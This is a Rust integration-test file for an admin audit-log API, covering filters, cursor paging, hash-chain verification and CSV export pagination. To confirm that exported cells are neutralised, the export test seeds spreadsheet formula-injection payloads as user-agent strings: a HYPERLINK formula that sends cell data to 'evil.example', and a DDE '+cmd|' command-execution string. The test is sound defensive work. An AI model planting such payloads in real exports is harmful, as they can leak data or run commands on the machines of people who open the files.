//! GET /v1/admin/audit-logs and its CSV export: filters, newest first, sealed cursors, RFC 4180
//! with inert formulas, 10,000 rows a response and the rest through `Link: rel="next"`.

use crate::peers::python;
use crate::support::{TestApp, on_both_stores, spawn_app};
use latch_core::domain::audit_chain;
use latch_core::domain::{AuditEvent, AuditType, ClientInfo, Outcome, Role, UserId};
use latch_core::http::csv::could_start_a_formula;
use latch_core::service::admin::audit_logs::EXPORT_COLUMNS;
use latch_core::service::{Caller, audit};
use serde_json::Value;
use time::format_description::well_known::Rfc3339;

pub fn caller(user_agent: &str) -> Caller {
    Caller::new(
        "seed",
        ClientInfo {
            ip: "203.0.113.7".parse().unwrap(),
            user_agent: user_agent.into(),
        },
    )
}

/// Appends one event through the service, as a route would.
pub async fn seed(
    app: &TestApp,
    actor: Option<&UserId>,
    kind: AuditType,
    user: Option<&UserId>,
    user_agent: &str,
) {
    let meta = [("reason", "seeded")];
    audit::record_by(
        &app.deps,
        &caller(user_agent),
        actor,
        kind,
        user,
        Outcome::Success,
        &meta,
    )
    .await
    .unwrap();
}

/// Every row of an export, following its `Link` headers; the number of data rows per response.
async fn export_all(app: &TestApp, path: &str, access: &str) -> (Vec<Vec<String>>, Vec<usize>) {
    let mut rows = Vec::new();
    let mut sizes = Vec::new();
    let mut next = Some(path.to_owned());
    while let Some(path) = next.take() {
        let res = app
            .client
            .get(app.url(&path))
            .bearer_auth(access)
            .header("user-agent", crate::support::UA)
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200, "{path}");
        let ct = res.headers()["content-type"].to_str().unwrap().to_owned();
        assert!(ct.starts_with("text/csv"), "{ct}");
        if let Some(link) = res.headers().get("link") {
            let link = link.to_str().unwrap();
            assert!(link.ends_with(">; rel=\"next\""), "{link}");
            let url = &link[1..link.find('>').unwrap()];
            let at = url.find("/v1/").unwrap();
            next = Some(url[at..].to_owned());
        }
        let body = res.bytes().await.unwrap();
        assert!(body.len() < 6_000_000, "within the Lambda response limit");
        let (ok, parsed, stderr) = python("parse_csv.py", &body);
        assert!(ok, "{stderr}");
        let parsed: Vec<Vec<String>> = serde_json::from_value(parsed).unwrap();
        assert_eq!(
            parsed[0], EXPORT_COLUMNS,
            "each response opens with the header row"
        );
        sizes.push(parsed.len() - 1);
        rows.extend(parsed.into_iter().skip(1));
    }
    (rows, sizes)
}

#[tokio::test]
async fn the_trail_is_searched_by_each_filter_newest_first_a_page_at_a_time() {
    for (app, clock) in on_both_stores(&[]).await {
        let (_, admin, admin_id) = app.signed_in_with(&[Role::Admin]).await;
        let admin_id = UserId::parse(&admin_id).unwrap();
        let (ada, bob) = (
            UserId::new(app.deps.clock.now()),
            UserId::new(app.deps.clock.now()),
        );
        let start = app.deps.clock.now();
        for i in 0..6 {
            clock.advance(time::Duration::seconds(10));
            let user = if i % 2 == 0 { &ada } else { &bob };
            let actor = (i < 2).then_some(&admin_id);
            let kind = if i % 3 == 0 {
                AuditType::AdminUserLocked
            } else {
                AuditType::LoginFailed
            };
            seed(&app, actor, kind, Some(user), "Firefox").await;
        }
        let for_ada = app
            .all_pages(
                &format!("/v1/admin/audit-logs?userId={ada}&limit=2"),
                &admin,
            )
            .await;
        assert_eq!(for_ada.len(), 3);
        let times: Vec<&str> = for_ada.iter().map(|e| e["at"].as_str().unwrap()).collect();
        let mut sorted = times.clone();
        sorted.sort_by(|a, b| b.cmp(a));
        assert_eq!(times, sorted, "newest first");
        let e = &for_ada[0];
        for field in [
            "id",
            "at",
            "type",
            "userId",
            "ip",
            "userAgent",
            "requestId",
            "outcome",
            "metadata",
        ] {
            assert!(e.get(field).is_some_and(|v| !v.is_null()), "{field} in {e}");
        }
        assert!(
            e.get("chain").is_none(),
            "the link is for verification, not the contract"
        );
        let by_actor = app
            .all_pages(
                &format!("/v1/admin/audit-logs?actorId={admin_id}&type=admin.user_locked"),
                &admin,
            )
            .await;
        assert_eq!(by_actor.len(), 1);
        assert_eq!(by_actor[0]["userId"], ada.to_string());
        let from = (start + time::Duration::seconds(25))
            .format(&Rfc3339)
            .unwrap();
        let to = (start + time::Duration::seconds(45))
            .format(&Rfc3339)
            .unwrap();
        let window = app
            .all_pages(
                &format!(
                    "/v1/admin/audit-logs?userId={bob}&from={}&to={}",
                    super::urlencoding(&from),
                    super::urlencoding(&to)
                ),
                &admin,
            )
            .await;
        assert_eq!(window.len(), 1, "only bob's event at +40 s: {window:?}");

        for query in [
            "userId=nobody",
            "actorId=1",
            "type=login.exploded",
            "from=yesterday",
            "to=2026-13-01T00:00:00Z",
            "limit=0",
        ] {
            app.admin_get(&format!("/v1/admin/audit-logs?{query}"), &admin)
                .await
                .assert_problem(422, "validation_failed");
        }
        let reversed = format!(
            "/v1/admin/audit-logs?from={}&to={}",
            super::urlencoding(&to),
            super::urlencoding(&from)
        );
        app.admin_get(&reversed, &admin)
            .await
            .assert_problem(422, "validation_failed");
        let page = app
            .admin_get(
                &format!("/v1/admin/audit-logs?userId={ada}&limit=1"),
                &admin,
            )
            .await;
        let cursor = super::urlencoding(page.body["nextCursor"].as_str().unwrap());
        app.admin_get(
            &format!("/v1/admin/audit-logs?userId={bob}&limit=1&cursor={cursor}"),
            &admin,
        )
        .await
        .assert_problem(400, "bad_request");
        app.admin_get(
            &format!("/v1/admin/audit-logs?limit=1&cursor=x{cursor}"),
            &admin,
        )
        .await
        .assert_problem(400, "bad_request");
    }
}

#[tokio::test]
async fn exports_are_rfc_4180_with_inert_formulas_and_page_through_link_headers() {
    for (app, _clock) in on_both_stores(&[("LATCH_AUDIT_EXPORT_ROWS", "3")]).await {
        let (_, admin, _) = app.signed_in_with(&[Role::Admin]).await;
        let user = UserId::new(app.deps.clock.now());
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1,2)",
            "plain, with \"quotes\"",
            "Firefox",
            "\t=1+1",
        ];
        for ua in hostile {
            seed(&app, None, AuditType::LoginFailed, Some(&user), ua).await;
        }
        let (rows, sizes) = export_all(
            &app,
            &format!("/v1/admin/audit-logs/export?userId={user}"),
            &admin,
        )
        .await;
        assert_eq!(
            sizes,
            [3, 3, 1],
            "three rows a response, the rest behind Link"
        );
        assert_eq!(rows.len(), hostile.len());
        for row in &rows {
            for cell in row {
                assert!(
                    !could_start_a_formula(cell),
                    "{cell:?} would open as a formula"
                );
            }
            assert_eq!(row[2], "login.failed");
            assert_eq!(row[5], user.to_string());
            let meta: Value = serde_json::from_str(&row[9]).unwrap();
            assert_eq!(meta["reason"], "seeded");
        }
        let agents: Vec<&str> = rows.iter().map(|r| r[7].as_str()).collect();
        assert!(
            agents.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"),
            "{agents:?}"
        );
        assert!(
            agents.contains(&"plain, with \"quotes\""),
            "quoted, kept whole"
        );
    }
}

#[tokio::test]
async fn a_hundred_thousand_events_export_ten_thousand_rows_a_response() {
    let app = spawn_app().await;
    let store = app.store.as_ref().unwrap();
    let start = app.deps.clock.now() - time::Duration::days(1);
    let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0".to_owned();
    let mut heads: Vec<Option<latch_core::domain::ChainHead>> = vec![None; 16];
    let mut events = Vec::with_capacity(100_000);
    for i in 0..100_000u32 {
        let at = start + time::Duration::milliseconds(i64::from(i));
        let event = AuditEvent {
            id: latch_core::crypto::random::ulid(at),
            at,
            kind: AuditType::LoginFailed,
            actor_id: None,
            user_id: Some(UserId::new(at)),
            ip: Some("2001:db8::1".into()),
            user_agent: Some(agent.clone()),
            request_id: format!("req-{i}"),
            outcome: Outcome::Failure,
            metadata: serde_json::Map::from_iter([(
                "reason".to_owned(),
                Value::from("wrong_password"),
            )]),
            chain: None,
        };
        let p = (i % 16) as u16;
        let linked = audit_chain::link(event, p, heads[p as usize].as_ref());
        heads[p as usize] = latch_core::domain::ChainHead::of(&linked);
        events.push(linked);
    }
    store.import_audit_events(events).await.unwrap();
    // Signed in after the import: its own events link after the imported heads.
    let (_, admin, _) = app.signed_in_with(&[Role::Admin]).await;
    let from = super::urlencoding(&start.format(&Rfc3339).unwrap());
    let (rows, sizes) = export_all(
        &app,
        &format!("/v1/admin/audit-logs/export?type=login.failed&from={from}"),
        &admin,
    )
    .await;
    assert!(sizes.iter().all(|n| *n <= 10_000), "{sizes:?}");
    assert_eq!(
        sizes.iter().filter(|n| **n == 10_000).count(),
        10,
        "{sizes:?}"
    );
    let ids: std::collections::HashSet<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(ids.len(), 100_000, "every event once");
    let verified = app
        .admin_get(&format!("/v1/admin/audit-logs/verify?from={from}"), &admin)
        .await;
    assert_eq!(verified.body["ok"], true, "{}", verified.body);
    assert!(
        verified.body["checked"].as_u64().unwrap() >= 100_000,
        "{}",
        verified.body
    );
}

#[tokio::test]
async fn wide_rows_are_cut_by_bytes_so_a_response_stays_within_the_lambda_limit() {
    let app = spawn_app().await;
    let store = app.store.as_ref().unwrap();
    let start = app.deps.clock.now() - time::Duration::hours(1);
    let reason = "\"=wide\" ".repeat(200);
    let mut heads: Vec<Option<latch_core::domain::ChainHead>> = vec![None; 16];
    let mut events = Vec::new();
    for i in 0..6_000u32 {
        let at = start + time::Duration::milliseconds(i64::from(i));
        let event = AuditEvent {
            id: latch_core::crypto::random::ulid(at),
            at,
            kind: AuditType::AdminUserLocked,
            actor_id: None,
            user_id: None,
            ip: None,
            user_agent: Some("=cmd|x".repeat(40)),
            request_id: format!("req-{i}"),
            outcome: Outcome::Success,
            metadata: serde_json::Map::from_iter([(
                "reason".to_owned(),
                Value::from(reason.clone()),
            )]),
            chain: None,
        };
        let p = (i % 16) as u16;
        let linked = audit_chain::link(event, p, heads[p as usize].as_ref());
        heads[p as usize] = latch_core::domain::ChainHead::of(&linked);
        events.push(linked);
    }
    store.import_audit_events(events).await.unwrap();
    let (_, admin, _) = app.signed_in_with(&[Role::Admin]).await;
    let (rows, sizes) = export_all(
        &app,
        "/v1/admin/audit-logs/export?type=admin.user_locked",
        &admin,
    )
    .await;
    assert!(
        sizes.len() >= 3,
        "cut by bytes, not only by rows: {sizes:?}"
    );
    assert!(sizes.iter().all(|n| *n < 10_000), "{sizes:?}");
    let ids: std::collections::HashSet<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(ids.len(), 6_000, "every event once, none lost at a cut");
}
